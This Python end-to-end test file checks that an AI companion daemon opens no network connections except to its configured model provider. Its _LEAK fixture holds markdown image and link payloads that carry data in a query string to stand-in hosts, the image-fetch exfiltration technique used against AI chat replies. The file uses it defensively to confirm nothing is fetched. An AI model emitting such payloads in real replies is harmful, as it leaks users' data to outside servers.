"""Nothing leaves the machine that the owner did not say: a day of a real daemon, and what its kernel counted (F2)."""

import asyncio
import importlib.util
import json
import os
import shutil
import subprocess
import sys
from dataclasses import dataclass, field
from pathlib import Path
from typing import BinaryIO

import pytest

from reveries import protocol
from reveries.config import Home
from tests.e2e.confined_calls import NAMES
from tests.e2e.living import Client, Living
from tests.fakes.provider import provider

_LEAK = "![x](http://203.0.113.9/a.png?d=quokka) [y](https://leak.invalid/quokka) <img src=http://203.0.113.9/q>"
_WATCH = """
import json, os, sys
def watch(event, arguments):
    if event in ("socket.connect", "socket.sendto") and isinstance(arguments[1], tuple):
        seen = ["connect", *map(str, arguments[1][:2])]
    elif event == "socket.getaddrinfo":
        seen = ["look up", str(arguments[0]), str(arguments[1])]
    else:
        return
    file = os.open({path!r}, os.O_WRONLY | os.O_APPEND | os.O_CREAT, 0o600)
    os.write(file, (json.dumps(seen) + "\\n").encode())
    os.close(file)
sys.addaudithook(watch)
"""


@dataclass
class Confined(Living):
    """A daemon that is started through another command."""

    before: tuple[str, ...] = ()
    started: list[int] = field(default_factory=list)

    def _start(self, output: BinaryIO) -> "subprocess.Popen[bytes]":
        return subprocess.Popen(
            [*self.before, sys.executable, "-m", "reveries.daemon"],
            env={**os.environ, "REVERIES_HOME": str(self.home.path), **self.environment},
            stdin=subprocess.DEVNULL,
            stdout=output,
            stderr=output,
            start_new_session=True,
            umask=0o077,
        )


async def _a_day(client: Client, *, sleeps: bool) -> None:
    """Talk, a thought, sleep where the model is quick, and what an owner asks for."""
    await client.say("My boat is called Ida.")
    client.send(protocol.ControlThinking(client.number(), "step"))
    await client.next_of(protocol.ThinkingControlled)
    if sleeps:
        client.send(protocol.Consolidate(client.number(), limit=1))
        await client.next_of(protocol.Consolidated, seconds=300)
    for request, answer in (
        (protocol.AskStatus(client.number()), protocol.Status),
        (protocol.AskCheckup(client.number()), protocol.Checkup),
        (protocol.AskModels(client.number()), protocol.ModelsOverview),
    ):
        client.send(request)
        await client.next_of(answer)


def _can_unshare(unshare: str) -> bool:
    return subprocess.run([unshare, "-rn", "true"], capture_output=True, check=False).returncode == 0


def _counted(pid: int) -> dict[str, int]:
    """What the kernel counted in the network namespace of a process: attempts to connect, packets sent."""
    counts: dict[str, int] = {}
    lines = Path(f"/proc/{pid}/net/snmp").read_text(encoding="ascii").splitlines()
    for names, values in zip(lines[::2], lines[1::2], strict=True):
        kind = names.split(":")[0]
        counts |= {f"{kind}.{n}": int(v) for n, v in zip(names.split()[1:], values.split()[1:], strict=True)}
    return counts


@pytest.mark.e2e
@pytest.mark.system
@pytest.mark.requirement("F2", "F4b")
async def test_with_the_embedded_model_a_whole_day_opens_no_connection_at_all(living: Living) -> None:
    unshare = shutil.which("unshare")
    if unshare is None or not _can_unshare(unshare):
        pytest.skip("no network namespace can be made here")
    confined = Confined(living.home, thinks=True, before=(unshare, "-rn"))
    try:
        await confined.wake()
        assert confined.process is not None
        async with confined.client() as client:
            await _a_day(client, sleeps=False)
            counts = _counted(confined.process.pid)
        assert {name: counts[name] for name in ("Tcp.ActiveOpens", "Udp.OutDatagrams", "Ip.OutRequests")} == {
            "Tcp.ActiveOpens": 0,
            "Udp.OutDatagrams": 0,
            "Ip.OutRequests": 0,
        }
        assert await confined.end() == 0
    finally:
        if confined.process is not None and confined.process.poll() is None:
            confined.kill()


@pytest.mark.e2e
@pytest.mark.system
@pytest.mark.requirement("F2")
def test_litellm_asks_nobody_but_the_provider_whatever_the_model_is_called() -> None:
    """Not even from libraries that open their sockets beside Python, which an audit hook does not see."""
    unshare = shutil.which("unshare")
    if unshare is None or not _can_unshare(unshare) or importlib.util.find_spec("litellm") is None:
        pytest.skip("no network namespace can be made here, or the extra `hosted` is not installed")
    done = subprocess.run(
        [unshare, "-rn", sys.executable, "-W", "ignore", "-m", "tests.e2e.confined_calls"],
        cwd=Path(__file__).parents[2],
        capture_output=True,
        text=True,
        timeout=300,
        check=True,
    )
    counts = json.loads(done.stdout.splitlines()[-1])
    assert counts == {"Tcp.ActiveOpens": 2 * len(NAMES), "Udp.OutDatagrams": 0, "Ip.OutNoRoutes": 0}


@pytest.mark.e2e
@pytest.mark.requirement("F2")
async def test_with_a_provider_only_its_host_is_reached_and_nothing_in_a_reply_is_fetched(
    living: Living, tmp_path: Path
) -> None:
    seen = tmp_path / "seen"
    (tmp_path / "sitecustomize.py").write_text(_WATCH.format(path=str(seen)), encoding="utf-8")
    async with provider() as served:
        served.texts["small:latest"] = f"I see. {_LEAK}"
        living.settings = (
            f'[llm]\nprovider = "ollama"\nollama_url = "{served.url}"\nconversation_model = "small:latest"\n'
            'monologue_model = "small:latest"\nconsolidation_model = "small:latest"\n[monologue]\nenabled = {thinks}\n'
        )
        living.thinks = True
        living.environment = {"PYTHONPATH": f"{tmp_path}:{Path(__file__).parents[2]}"}
        await living.wake()
        async with living.client() as client:
            client.send(protocol.Attach(client.number()))
            await client.next_of(protocol.Attached)
            replied = await client.say("Look at this picture for me.")
            await _a_day(client, sleeps=True)
        shown = await asyncio.to_thread(_say, living.home, living.environment)
        await living.end()
        port = str(served.port)
    assert "203.0.113.9" in replied.text
    assert "203.0.113.9" in shown
    reached = {tuple(json.loads(line)[1:]) for line in seen.read_text(encoding="utf-8").splitlines()}
    assert reached == {("127.0.0.1", port)}


def _say(home: Home, environment: dict[str, str]) -> str:
    done = subprocess.run(
        [sys.executable, "-m", "reveries", "say", "And this one?"],
        env={**os.environ, **environment, "REVERIES_HOME": str(home.path)},
        capture_output=True,
        text=True,
        timeout=300,
        check=False,
    )
    return done.stdout
